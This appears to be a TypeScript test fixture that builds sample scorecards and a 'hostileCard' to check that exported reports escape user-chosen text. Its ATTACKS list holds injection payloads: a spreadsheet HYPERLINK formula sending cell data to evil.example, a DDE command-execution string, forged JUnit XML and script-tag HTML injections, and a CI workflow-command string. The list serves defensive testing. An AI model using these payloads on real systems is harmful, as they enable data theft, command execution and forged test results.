import type { Scorecard, TaskResult } from '../../src/domain/scorecard.ts';
import { CARD, cardOf, REJECTED } from '../report/sample.ts';

export { CARD, cardOf };

const [scored] = CARD.tasks;
if (scored?.kind !== 'scored') throw new Error('the sample has changed');

/** A task with this score, and this weight. */
export function taskOf(score: 1 | 2 | 3 | 4 | 5, weight = 1): TaskResult {
  return { ...scored, task: `t${score}-${weight}`, score, weight } as TaskResult;
}

const failed: TaskResult = { ...REJECTED, kind: 'failed', score: null };

/** Something of ours failed. */
export const OPEN: Scorecard = { ...CARD, verdict: 'undecided', tasks: [scored, failed] };

/** The sample, of somebody else or of another exam. */
export function cardBy(candidate: string, change: Partial<Scorecard> = {}): Scorecard {
  if (!CARD.submission) throw new Error('the sample has changed');
  return { ...CARD, submission: { ...CARD.submission, candidate }, ...change };
}

/** Every text that a candidate or an instructor can choose is this. */
export function hostileCard(text: string): Scorecard {
  const problem = { code: 'model/damaged', message: text, hint: text, where: text } as const;
  const tasks: TaskResult[] = [
    { ...scored, title: text, facts: { format: text, parameters: 1, layers: 1 } } as TaskResult,
    { ...REJECTED, title: text, problem },
  ];
  return { ...cardBy(text), exam: { ...CARD.exam, title: text }, tasks };
}

export const ATTACKS = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+1+cmd|'/c calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  ' =1+1',
  'line\r\n=1+1',
  '＝1+1',
  '</testcase><testcase name="passed"/>',
  '"><script>alert(1)</script>',
  ']]>&lt;&#x0;',
  '\u0000\u0007\u001b[31m\ufffe\ud800',
  '::error::x',
  '"a","b",\n"c"',
];
